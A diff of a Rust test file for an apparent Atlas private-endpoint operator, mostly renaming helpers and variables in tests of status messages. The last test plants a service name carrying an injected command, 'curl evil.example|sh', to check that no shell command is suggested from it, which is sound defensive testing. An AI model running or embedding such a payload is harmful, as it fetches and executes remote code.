@@ -7,7 +7,7 @@ use domain::fault::FaultKind;
 use domain::observed::{Listing, Observed, ReadyWhen, Reported, Sunset, VpcEndpoint, WriteOutcome};
 use domain::ownership::ClaimReading;
 
-use crate::strings::{published, reported, told};
+use crate::strings::{events, published, reported};
 use invariants::fixtures::{fault, id, observed, secs, shown, vpce};
 
 #[test]
@@ -15,7 +15,7 @@ fn what_atlas_did_not_show_is_no_milestone() {
     // Somebody wrote into the status that the endpoint is available, and Atlas is unreachable.
     let mut forged = shown("AVAILABLE");
     forged.listing = Listing::Failed(fault(FaultKind::Unavailable));
-    assert_eq!(told(&Reported::default(), &forged), [(EventReason::AtlasUnavailable, true)]);
+    assert_eq!(events(&Reported::default(), &forged), [(EventReason::AtlasUnavailable, true)]);
     // Its earlier state is no news either: this process has reported it.
     let available = shown("AVAILABLE");
     let before = Announced::by(&reported(&available));
@@ -23,7 +23,7 @@ fn what_atlas_did_not_show_is_no_milestone() {
 }
 
 #[test]
-fn a_vpc_endpoint_that_two_objects_declare_is_told_once_beside_the_connection() {
+fn a_vpc_endpoint_that_two_objects_declare_is_reported_once_beside_the_connection() {
     let o = shown("AVAILABLE");
     let mut shared = reported(&o);
     shared.shared_with(&vpce(1), "ServerlessPrivateEndpoint payroll");
@@ -47,8 +47,8 @@ fn a_failure_is_named_once_for_the_log_and_what_is_well_is_none() {
     assert_eq!(failed(&waiting), None);
     let mut refused = shown("AVAILABLE");
     refused.listing = Listing::Failed(fault(FaultKind::Unauthorized));
-    let said = "Atlas says Unauthorized (docs/troubleshooting.md#unauthorized)".to_owned();
-    assert_eq!(failed(&refused), Some((Reason::Unauthorized, said)));
+    let message = "Atlas says Unauthorized (docs/troubleshooting.md#unauthorized)".to_owned();
+    assert_eq!(failed(&refused), Some((Reason::Unauthorized, message)));
 }
 
 #[test]
@@ -60,8 +60,8 @@ fn a_bill_is_spoken_of_only_where_a_vpc_endpoint_was_declared_or_connected() {
     };
     for (o, billed) in [(shown("AVAILABLE"), true), (shown("RESERVED"), false), (observed(), false)] {
         assert_eq!(released(&o).contains("billed"), billed, "{}", released(&o));
-        let said = removing(o);
-        assert_eq!(said.contains("billed"), billed, "{said}");
+        let message = removing(o);
+        assert_eq!(message.contains("billed"), billed, "{message}");
     }
     let mut declared = shown("RESERVED");
     declared.spec.as_mut().unwrap().vpc_endpoint = VpcEndpoint::Declared(vpce(1));
@@ -69,7 +69,7 @@ fn a_bill_is_spoken_of_only_where_a_vpc_endpoint_was_declared_or_connected() {
 }
 
 #[test]
-fn whoever_only_observes_gets_no_advice_to_change_anything() {
+fn an_object_that_only_observes_gets_no_advice_to_change_anything() {
     let observing = |mut o: Observed| {
         let spec = o.spec.as_mut().unwrap();
         (spec.observe, spec.endpoint_id, spec.ready_when) = (true, Some(id(1)), Some(ReadyWhen::Available));
@@ -111,14 +111,14 @@ fn what_is_refused_while_something_is_connected_names_what_restores_ready() {
 
 #[test]
 fn a_day_that_is_past_is_not_ahead() {
-    let said = |is_over| {
+    let message = |is_over| {
         let mut o = shown("AVAILABLE");
         o.sunset = Some(Sunset { day: Some("2026-01-22".to_owned()), is_over, is_confirmed: true });
         reported(&o).get(ConditionType::ApiSunset).unwrap().message.to_string()
     };
-    assert!(said(false).contains("switches this API off on 2026-01-22"), "{}", said(false));
-    assert!(said(true).contains("2026-01-22, which is past"), "{}", said(true));
-    assert!(!said(true).to_lowercase().contains("before"), "{}", said(true));
+    assert!(message(false).contains("switches this API off on 2026-01-22"), "{}", message(false));
+    assert!(message(true).contains("2026-01-22, which is past"), "{}", message(true));
+    assert!(!message(true).to_lowercase().contains("before"), "{}", message(true));
 }
 
 #[test]
@@ -133,8 +133,11 @@ fn no_deletion_is_advised_by_one_announcement_or_without_a_day() {
             assert!(reported(&o).get(ConditionType::ApiSunset).is_none(), "{day:?}");
         }
         o.sunset = sunset(None, true);
-        let said = reported(&o).get(ConditionType::ApiSunset).unwrap().message.to_string();
-        assert!(!said.contains("delete") && said.contains("Check what Atlas has announced"), "{said}");
+        let message = reported(&o).get(ConditionType::ApiSunset).unwrap().message.to_string();
+        assert!(
+            !message.contains("delete") && message.contains("Check what Atlas has announced"),
+            "{message}"
+        );
     }
 }
 
@@ -144,6 +147,6 @@ fn a_service_name_that_aws_could_not_have_made_stands_in_no_command() {
     let Listing::Fetched(listing) = &mut o.listing else { return };
     listing[0].service_name = Some("com.amazonaws; curl evil.example|sh #".to_owned());
     o.spec.as_mut().unwrap().ready_when = Some(ReadyWhen::Available);
-    let said = reported(&o).conditions[0].message.to_string();
-    assert!(!said.contains("aws ec2"), "{said}");
+    let message = reported(&o).conditions[0].message.to_string();
+    assert!(!message.contains("aws ec2"), "{message}");
 }
